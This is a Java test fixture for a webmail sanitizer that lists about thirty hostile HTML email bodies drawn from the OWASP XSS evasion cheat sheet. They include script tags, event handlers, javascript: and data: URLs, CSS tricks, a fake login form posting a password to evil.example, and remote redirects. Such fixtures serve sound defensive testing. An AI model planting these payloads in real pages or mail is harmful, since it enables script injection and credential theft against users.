package org.facteur.webmail;

import java.util.List;

/**
 * Hostile message bodies: each tries to run script (which would set {@code document.title} or a
 * {@code data-xss} attribute to {@code XSS}), load something, or redirect. Drawn from the OWASP XSS filter
 * evasion cheat sheet and from real phishing mail.
 */
public final class HostileHtml {

    public record Case(String name, String html) {
    }

    private static final String RUN = "document.title='XSS';document.body.setAttribute('data-xss','1')";

    public static final List<Case> CASES = List.of(
            new Case("script tag", "<p>hi</p><script>" + RUN + "</script>"),
            new Case("script mixed case", "<ScRiPt>" + RUN + "</sCrIpT>"),
            new Case("script in svg", "<svg><script>" + RUN + "</script></svg>"),
            new Case("svg onload", "<svg onload=\"" + RUN + "\"></svg>"),
            new Case("img onerror", "<img src=x onerror=\"" + RUN + "\">"),
            new Case("body onload", "<body onload=\"" + RUN + "\">text</body>"),
            new Case("javascript link", "<a href=\"javascript:" + RUN + "\">click</a>"),
            new Case("javascript link encoded", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>"),
            new Case("javascript link with tab", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
            new Case("vbscript link", "<a href=\"vbscript:msgbox(1)\">x</a>"),
            new Case("data url link", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>"),
            new Case("data url image", "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">"),
            new Case("iframe", "<iframe src=\"javascript:" + RUN + "\"></iframe>"),
            new Case("iframe srcdoc", "<iframe srcdoc=\"<script>parent.document.title='XSS'</script>\"></iframe>"),
            new Case("object", "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">"),
            new Case("form", "<form action=\"https://evil.example/steal\"><input name=p type=password><button>Log in</button></form>"),
            new Case("base href", "<base href=\"https://evil.example/\"><a href=\"login\">x</a>"),
            new Case("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\"><p>x</p>"),
            new Case("meta refresh remote", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>x</p>"),
            new Case("css expression", "<div style=\"width: expression(" + RUN + ")\">x</div>"),
            new Case("css url javascript", "<div style=\"background-image: url('javascript:alert(1)')\">x</div>"),
            new Case("css escaped", "<div style=\"background:u\\72l(https://evil.example/t.png)\">x</div>"),
            new Case("css behavior", "<div style=\"behavior: url(evil.htc); -moz-binding: url(evil.xml#x)\">x</div>"),
            new Case("style element import", "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/t)}</style><p>x</p>"),
            new Case("link stylesheet", "<link rel=stylesheet href=\"https://evil.example/x.css\"><p>x</p>"),
            new Case("details ontoggle", "<details open ontoggle=\"" + RUN + "\"><summary>x</summary></details>"),
            new Case("math href", "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>"),
            new Case("malformed quotes", "<img \"\"\"><script>" + RUN + "</script>\">"),
            new Case("null byte", "<scr\u0000ipt>" + RUN + "</scr\u0000ipt>"),
            new Case("comment trick", "<!--<img src=\"--><img src=x onerror=" + RUN.replace(" ", "") + "//\">"),
            new Case("noscript trick", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
            new Case("template", "<template><script>" + RUN + "</script></template>"),
            new Case("remote tracking image", "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>"));

    private HostileHtml() {
    }
}
